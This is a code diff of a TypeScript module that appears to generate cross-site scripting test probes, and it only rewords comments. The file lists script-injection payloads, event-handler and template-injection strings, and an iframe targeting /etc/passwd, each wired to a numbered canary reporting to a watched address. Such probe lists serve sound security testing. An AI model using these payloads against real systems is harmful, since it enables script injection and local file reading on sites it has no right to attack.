@@ -1,4 +1,4 @@
-/** What people try who want a page to run their words; HERE is the call that tells, OUT an address that is watched. */
+/** Common script payloads; HERE is the call that reports, OUT an address that is watched. */
 const WRITTEN = [
   '<script>HERE</script>',
   '<img src=x onerror=HERE>',
@@ -34,7 +34,7 @@ const WRITTEN = [
   "' onfocus=HERE autofocus='",
   '" autofocus onfocus=HERE "',
   '`-HERE-`',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what others' templates fill in
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the syntax of other template languages
   '${HERE}',
   "{{constructor.constructor('HERE')()}}",
   '{{HERE}}',
@@ -70,12 +70,12 @@ const WRITTEN = [
   '<iframe src=file:///etc/passwd>',
 ]
 
-/** Each with a number of its own, so that one that runs tells which it was; `out` is the address that is watched. */
+/** Each has its own number, so that one that runs can be identified; `out` is the watched address. */
 export function scriptPayloads(out: string): string[] {
   return WRITTEN.map((text, id) => text.replaceAll('HERE', `canary(${id})`).replaceAll('OUT', out))
 }
 
-/** All of them in as few texts as there are characters for; the first of each text may be of any kind. */
+/** All payloads in as few texts as the length allows; the first of each text may be of any kind. */
 export function packed(payloads: readonly string[], most: number): string[] {
   const texts: string[] = []
   for (const payload of payloads) {
